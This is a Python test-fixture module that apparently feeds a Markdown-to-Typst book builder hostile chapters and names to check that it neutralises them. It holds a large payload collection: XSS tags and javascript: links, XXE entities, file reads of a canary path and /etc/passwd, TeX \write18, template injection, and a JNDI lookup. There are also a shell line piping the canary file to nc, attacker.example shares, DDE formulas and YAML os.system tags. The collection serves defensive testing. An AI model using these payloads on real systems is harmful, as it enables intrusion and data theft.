# ruff: noqa: E501
"""Chapters that would do something in a builder that trusted them, and words for titles and names.

Every input that could fetch or read something names the listener's address and the canary's path.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True)
class Lures:
    """What must stay untouched: an address that listens, a file to be read, a pipe that would block."""

    address: str  # "127.0.0.1:40000"
    canary: str
    pipe: str


def texts(lures: Lures) -> dict[str, str]:
    """Markdown by the name of what it tries. All of it can be typeset, as words."""
    return {
        **dict(_markup(lures)),
        **dict(_links(lures)),
        **dict(_programs(lures)),
        **dict(_data(lures)),
        **dict(_characters()),
        **dict(_shapes()),
    }


def refused(lures: Lures) -> dict[str, tuple[str, str, int]]:
    """Markdown that is beyond a limit, with the problem's code and line."""
    return {
        "a chapter of 1.2 MB": ("word " * 240_000, "chapter-length", 0),
        "a word of a megabyte": ("x" * 1_000_001, "chapter-length", 0),
        "5,000 rows": ("one\n\n| a |\n|---|\n" + "| b |\n" * 5_000, "rows", 3),
        "1,000 columns": ("one\n\n\n" + "| a " * 1_000 + "|\n" + "|---" * 1_000 + "|\n", "columns", 4),
        "1,000 columns in a quote": ("> " + "| a " * 1_000 + "|\n> " + "|---" * 1_000 + "|\n", "columns", 1),
        "10,000 notes": ("".join(f"x[^{n}]\n" for n in range(10_000)) + _notes(10_000), "footnotes", 2001),
        "a table in a note": ("x[^1]\n\n[^1]: y\n\n    | a |\n    |---|\n" + "    | b |\n" * 600, "rows", 5),
    }


def _notes(count: int) -> str:
    return "\n" + "".join(f"[^{n}]: note\n" for n in range(count))


def _markup(lures: Lures) -> Iterator[tuple[str, str]]:
    to, canary = f"http://{lures.address}", lures.canary
    tags = {
        "script": f"<script>fetch('{to}/script')</script>",
        "script from elsewhere": f'<script src="{to}/script.js"></script>',
        "script in capitals and pieces": "<ScRiPt\n>alert(1)</sCrIpT\n><scr<script>ipt>alert(1)</script>",
        "script that ends a style": "</style></title></textarea><script>alert(1)</script>",
        "svg with onload": f'<svg onload="alert(1)"><script href="{to}/svg"/></svg>',
        "svg with foreign object": '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
        "svg that uses a file": f'<svg><use href="file://{canary}#x"/><image href="file://{canary}"/></svg>',
        "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "iframe": f'<iframe src="file://{canary}" srcdoc="<script>alert(1)</script>"></iframe>',
        "object": f'<object data="file://{canary}" type="text/html"></object>',
        "embed": f'<embed src="{to}/embed.swf">',
        "applet": f'<applet code="x.class" codebase="{to}/applet"></applet>',
        "form": f'<form action="{to}/form"><input name=x autofocus onfocus=alert(1)><button>go</button></form>',
        "base": f'<base href="{to}/base/">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={to}/refresh">',
        "link to a style": f'<link rel="stylesheet" href="{to}/style.css"><link rel="import" href="{to}/x">',
        "style": f'<style>@import "{to}/import.css"; * {{ background: url({to}/bg) }}</style>',
        "style attribute": f'<p style="width: expression(alert(1)); behavior: url({to}/x.htc)">x</p>',
        "event handlers": '<b onclick="x()" ONMOUSEOVER=x() onerror = "x()">x</b> <img src=x onerror=alert(1)>',
        "picture from elsewhere": f'<img src="{to}/img.png" srcset="{to}/2x.png 2x"><picture><source src="{to}/s">',
        "video and audio": f'<video src="{to}/v" poster="{to}/p" autoplay></video><audio src="{to}/a"></audio>',
        "template and slot": "<template><script>alert(1)</script></template><slot name=x></slot>",
        "custom element": '<x-script is="script" onload=alert(1)></x-script>',
        "comment with a condition": "<!--[if IE]><script>alert(1)</script><![endif]--> <!-- --!> <img src=x>",
        "broken tag": "<img src=`x` onerror=alert(1) <p </p <b/onclick=x //",
        "tag with a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "tag of entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e;",
        "processing instruction": "<?php system('id'); ?> <?xml-stylesheet href='http://x/x.xsl'?>",
        "CDATA": "<![CDATA[<script>alert(1)</script>]]> ]]> ]]&gt;",
        "doctype with an entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]> &e; %e;',
        "external DTD": f'<!DOCTYPE x PUBLIC "-//x" "{to}/x.dtd"> <x xmlns:xi="http://www.w3.org/2001/XInclude">',
        "billion laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]> &b;&b; &lol9;',
        "XInclude": f'<xi:include href="file://{canary}" parse="text"/>',
        "word's own markup": '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText><w:altChunk r:id="x"/>',
        "markup in code": "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n</code></pre>\n```",
        "markup in a table": "| <script>x</script> | `</td>` |\n|---|---|\n| <img src=x onerror=y> | \\| |",
        "markup in a note": "x[^n]\n\n[^n]: <script>alert(1)</script></aside>",
        "markup in a heading": "## <script>alert(1)</script> </h2>\n\n### [x](javascript:alert(1))",
        "language of a code block": '```"><script>alert(1)</script>\nx\n```\n\n```py" onload="x\ny\n```',
        "title of a link": 'See [x](https://example.org "onclick=alert(1) \\"><script>") and ![y](z "\\"><script>")',
        "span with handlers": '[x]{lang=fr onclick=alert(1)} [x]{lang="><script>"} [y]{style=x} [z]{lang=fr dir=<b>}',
    }
    yield from tags.items()


def _links(lures: Lures) -> Iterator[tuple[str, str]]:
    script = "javascript:alert(1)"
    encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
    targets = {
        "javascript": script,
        "javascript in mixed case": "JaVaScRiPt:alert(1)",
        "javascript with a tab": "java&#9;script:alert(1)",
        "javascript with a line end": "java&#10;script:alert(1)",
        "javascript after a blank": "&#32;javascript:alert(1)",
        "javascript after a control": "&#1;javascript:alert(1)",
        "javascript in entities": "".join(f"&#{ord(letter)};" for letter in script),
        "javascript in hex entities": "".join(f"&#x{ord(letter):x};" for letter in script),
        "javascript in percents": quote(script, safe="").replace(".", "%2e"),
        "javascript with a named colon": "javascript&colon;alert(1)",
        "javascript with a host": "javascript://example.org/%0aalert(1)",
        "javascript in full width": "ｊａｖａｓｃｒｉｐｔ：alert(1)",
        "data page": f"data:text/html;base64,{encoded}",
        "data svg": "data:image/svg+xml,<svg/onload=alert(1)>",
        "vbscript": "vbscript:msgbox(1)",
        "file": f"file://{lures.canary}",
        "file of a host": "file://attacker.example/share/x",
        "network share": "\\\\\\\\attacker.example\\\\share",
        "smb": "smb://attacker.example/share",
        "protocol of the page": f"//{lures.address}/x",
        "path": lures.canary,
        "path upwards": "../../../../../../../.." + lures.canary,
        "blob and filesystem": "blob:http://x/1",
        "jar": "jar:http://x/x.jar!/",
        "ms-office": f"ms-word:ofe|u|http://{lures.address}/x.docm",
        "mhtml": "mhtml:http://x!cid:1",
        "view-source": "view-source:javascript:alert(1)",
        "tel and sms": "sms:+1234?body=x",
        "mailto with headers": "mailto:a@example.org?bcc=b@x.org&attach=/etc/passwd&body=%0d%0aX:y",
        "http with a password": "https://user:pass@example.org/",
        "http with a quote": 'https://example.org/"onmouseover="alert(1)',
        "http with a line end": "https://example.org/%0d%0aSet-Cookie:x",
        "http with a host of brackets": "http://[::1]:80/",
        "PDF's own actions": "/Launch /JavaScript (app.alert\\(1\\))",
    }
    for name, target in targets.items():
        yield (
            f"link to {name}",
            f"[one](<{target}>) [two]({target}) <{target}> ![three](<{target}>)\n\n[four][r] {target}\n\n[r]: <{target}>",
        )


def _programs(lures: Lures) -> Iterator[tuple[str, str]]:
    to, canary, pipe = f"http://{lures.address}", lures.canary, lures.pipe
    programs = {
        "Typst package": '#import "@preview/tiaoma:0.3.0": *\n#import "@local/x:1.0.0"',
        "Typst file": f'#read("{canary}") #include "{canary}" #image("{canary}") #json("{canary}") #raw(read("{canary}"))',
        "Typst pipe": f'#read("{pipe}") #image("{pipe}") ![x]({pipe})',
        "Typst eval": '#eval("1 + 1") #{ while true {} } #let f(x) = f(x); #f(1)',
        "Typst out of a string": f'" #read("{canary}") "\\" #panic("x") \\\\" #eval("1") \\u{{22}} #read("{canary}") \\',
        "Typst out of content": "] #panic() [ ]) #set page(width: 1pt) ($ } { ` ``` `` /* // */",
        "Typst marks": "$ x^2 $ @ref <label> = Head\n== Head\n+ x\n/ t: d\n#[x] ~ -- --- ... \\ #sym.arrow",
        "Typst label": "# a <chapter-1>\n\n@chapter-1 <chapter-1-note-1> #link(<chapter-1>)[x]",
        "Typst plugin": f'#plugin("{canary}") #bibliography("{canary}") #sys.inputs #datetime.today()',
        "raw Typst block": f'```typst\n#read("{canary}")\n```\n\n```{{=typst}}\n#panic()\n```\n\n`x`{{=typst}}',
        "raw blocks of Pandoc": "```{=html}\n<script>alert(1)</script>\n```\n\n```{=latex}\n\\input{x}\n```",
        "LaTeX": f"\\input{{{canary}}} \\write18{{id}} \\immediate\\openin5={canary} $\\catcode`\\%=0$ \\csname x\\endcsname",
        "TeX loop": "\\def\\x{\\x\\x}\\x \\loop\\iftrue\\repeat ^^5c \\usepackage{shellesc}",
        "Jinja": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# x #}",
        "Django": "{% load static %} {% include '/etc/passwd' %} {{ settings.SECRET_KEY }} {% debug %}",
        "Mustache": "{{{raw}}} {{> partial}} {{#each this}} {{constructor.constructor('alert(1)')()}}",
        "server side includes": f'<!--#include virtual="{canary}" --> <!--#exec cmd="id" --> <%= `id` %> <% x %>',
        "EL and JNDI": f"${{7*7}} ${{jndi:ldap://{lures.address}/a}} #{{7*7}} *{{7*7}} @{{x}} %{{x}} ~{{x}}",
        "shell": f"$(cat {canary}) `cat {canary}` ; cat {canary} | nc {lures.address.replace(':', ' ')} && x || y > /tmp/x",
        "format strings": "%s %n %(secret)s {0} {0.__class__} {self} %% $1 \\1 \\g<0> {{}} {",
        "spreadsheet": f'=HYPERLINK("{to}","x") +cmd|" /C calc"!A0 @SUM(1) -2+3\n\n| =1+1 | \t=cmd |\n|---|---|\n| +1 | @x |',
        "DDE": '=DDE("cmd";"/C calc";"x") =WEBSERVICE("http://x") =IMPORTXML("http://x","//a")',
        "Word fields": f'{{ INCLUDETEXT "{canary}" }} {{ INCLUDEPICTURE "{to}/x" }} {{ DDEAUTO c:\\\\cmd.exe }} {{ MACROBUTTON x }}',
        "include marks": f"!include {canary}\n\n::include{{file={canary}}}\n\n@import {canary}\n\n.. include:: {canary}",
        "Markdown of others": f":::x\n::::\n\n!!! note\n    x\n\n[[{canary}]] ![[{canary}]] [TOC] {{toc}} ==x== ^x^ ~x~ $$x$$",
    }
    yield from programs.items()


def _data(lures: Lures) -> Iterator[tuple[str, str]]:
    yield "YAML front matter", "---\na: !!python/object/apply:os.system [id]\nb: &x [*x]\n---\n\ntext"
    yield "YAML bomb", "---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n...\n\n--- !!binary x\n%YAML 1.2"
    yield (
        "JSON and prototypes",
        '{"__proto__": {"x": 1}, "constructor": {"prototype": {}}} \\u003cscript\\u003e',
    )
    yield "SQL", "'; DROP TABLE books_book; -- \" OR 1=1 UNION SELECT * FROM pg_shadow \\' \\x27"
    yield (
        "PDF syntax",
        "endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> trailer %%EOF startxref 0",
    )
    yield "PostScript", f"%!PS ({lures.canary}) (r) file 1024 string readstring pop == (%pipe%id) (w) file"
    yield "zip and path names", "PK\x03\x04 ../../x ..\\\\..\\\\x /etc/cron.d/x C:\\\\x CON NUL aux.txt"
    yield "e-mail headers", "Subject: x\r\nBcc: y@z\r\n\r\n<script>\r.\r\n"
    yield (
        "picture of a script",
        f"![<script>alert(1)</script>](gate) ![x](images/../../{lures.canary}) ![y](gate.svg)",
    )
    yield (
        "picture by an odd name",
        "![x](GATE.JPG%00.svg) ![y](gate%2f..%2fcover) ![z](gate#x) ![w](gate?x=y)",
    )


def _characters() -> Iterator[tuple[str, str]]:
    yield (
        "bidi overrides",
        "a \u202e evil \u202d x \u202c \u2066 y \u2067 z \u2069 \u200f \u200e \u061c [x\u202e](https://e.org)",
    )
    yield "zero width", "z\u200be\u200cr\u200do\u2060w\ufeffi\u00add\u034fth\u180e \u3164\u115f x"
    yield "nulls and controls", "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x80i\x85j\x9fk &#0; &#1; &#x1b; &#127;"
    yield "lone surrogates", "a\ud800b\udfffc &#xD800; &#xDFFF; &#x110000; &#xFFFFFFFF; &#99999999999999;"
    yield (
        "nonces and the private",
        "\ufdd0 \ufffe \uffff \U0001fffe \U0010ffff \ue000 \U000f0000 \ufff9x\ufffay\ufffb \ufffc",
    )
    yield (
        "tags of the invisible",
        "\U000e0001\U000e0041\U000e007f \U0001f3f4\U000e0067\U000e007f \ufe0f\ufe0f",
    )
    yield "stacked marks", "Z" + "\u0300\u0316\u0488" * 200 + " a\u0301\u0328 " + "\u0e33" * 50
    yield "all scripts", "שלום مرحبا नमस्ते 日本語 ไทย ᠮᠣᠩᠭᠣᠯ 𓀀 👩‍👩‍👧‍👦 🇫🇷🇫 ﷽ 𝕏 ℡"
    yield (
        "spaces of all kinds",
        "a\u00a0b\u1680c\u2000d\u2003e\u2007f\u2009g\u202fh\u205fi\u3000j\u2028k\u2029l\tm",
    )
    yield "line ends of all kinds", "a\rb\r\nc\n\rd\x0be\x0cf\x85g\u2028h\u2029i\\\r\nj  \r\nk"
    yield "case that grows", "ẞß ŉ ǰ ΐ ﬃ ﬀ İi̇ ı ſ K Å"
    yield "normal forms", "é e\u0301 \ufb01 \u2126 \u212b \uf900 가 \u1100\u1161"


def _shapes() -> Iterator[tuple[str, str]]:
    for mark in "[]()*_`~|>!<&#\\:-+={}\"'":
        count = 5_000 if mark == "\\" else 20_000  # lines of these take Typst a while
        yield f"{count:,} of {mark}", f"a{mark * count} b"
        yield f"lines of {mark}", f"{mark}\n" * 400
    pairs = (
        "[a](",
        "![",
        "[^a]: ",
        "*a _b ",
        "**a ",
        "~~a ",
        "`a ",
        "<a ",
        "&#x",
        "[a]: x\n",
        "]{lang=fr}",
        "a@b.",
    )
    for pair in pairs:
        yield f"6,000 of {pair.strip()}", pair * 6_000
    yield "spans opened and closed", "[" * 5_000 + "a" + "]{lang=fr}" * 5_000
    yield "50 quotes", "\n".join(">" * n + f" level {n}" for n in range(1, 51))
    yield "50 lists", "\n".join("  " * n + f"- level {n}" for n in range(50))
    yield "50 numbered lists", "\n".join("   " * n + f"1. level {n}" for n in range(50))
    yield "50 lists and quotes", "".join("> - " for _ in range(50)) + "deep"
    yield "50 emphases", "*a **b " * 50 + "c" + "** *" * 50
    yield "50 links", "[" * 50 + "a" + "](https://example.org)" * 50
    yield "50 pictures", "![" * 50 + "a" + "](gate)" * 50
    yield (
        "50 notes within notes",
        "x[^0]\n\n" + "\n\n".join(f"[^{n}]: note {n} [^{n + 1}]" for n in range(50)),
    )
    yield "notes in a circle", "x[^a] y[^b]\n\n[^a]: one[^b][^a]\n[^b]: two[^a][^b][^c]\n[^c]: three[^c][^a]"
    yield "1,000 notes", "".join(f"x[^{n}] " for n in range(1_000)) + _notes(1_000)
    yield "a note referred to 2,000 times", "x[^1] " * 2_000 + "\n\n[^1]: note"
    yield "a word of 100,000", "x" * 100_000
    yield "a line of 100,000", "word " * 20_000
    yield (
        "an address of 100,000",
        "https://example.org/" + "x" * 100_000 + " [x](https://example.org/" + "y" * 100_000 + ")",
    )
    yield "a code line of 100,000", "`" + "x" * 50_000 + "`\n\n```\n" + "y" * 50_000 + "\n```"
    yield "500 rows", "| a | b |\n|---|---|\n" + "| x | y |\n" * 500
    yield "60 columns", "| a " * 60 + "|\n" + "|---" * 60 + "|\n" + "| b " * 60 + "|\n"
    yield "short and long rows", "| a | b |\n|---|---|\n| 1 |\n| 1 | 2 | 3 | 4 |\n|\n||\n| | |"
    yield "a cell of 20,000", "| a |\n|---|\n| " + "x" * 20_000 + " |"
    yield "600 headings", "\n\n".join(f"{'#' * (1 + n % 6)} {n}" for n in range(600))
    yield "600 scene breaks", "***\n\n" * 600
    yield "300 pictures", "![a](gate) " * 300
    yield "a list that starts late", "999999999. x\n1000000000. y\n\n- [ ] \n- [x]\n-\n\n0. z"
    yield "nothing", ""
    yield "only blanks", " \t\u00a0\u200b\n\n \u3000\n"


def names(lures: Lures) -> tuple[str, ...]:
    """Words for titles, authors, alternative texts and whatever else a member names."""
    to, canary = f"http://{lures.address}", lures.canary
    return (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "'-alert(1)-' \"'`",
        f'#read("{canary}")',
        f'" #read("{canary}") "\\',
        '] #panic("x") [',
        "\\input{x} $x$ \\\\",
        "{{ 7*7 }} {% x %} ${x} %s {0}",
        "]]> --> </title> &e; &amp;lt;",
        f'<!ENTITY e SYSTEM "file://{canary}">',
        "javascript:alert(1)",
        f"{to}/title",
        '=HYPERLINK("http://x")',
        "a\x00b\x1bc\x85\ufffe\ud800",
        "a\r\nBcc: x@y\n\n# b\n---\nc: !!python/x",
        "\u202eesrever\u202c \u200b\ufeff",
        "../../../etc/passwd\x00.jpg",
        "שלום 👩‍👩‍👧 日本語",
        "Z" + "\u0300" * 100,
        "x" * 400,
        "(endobj) /JavaScript << /S /Launch >> %%EOF",
        "!!python/object/apply:os.system [id]",
        "*a* **b** `c` [d](javascript:x) ![e](f) [g]{lang=fr}",
        " \t\n ",
    )
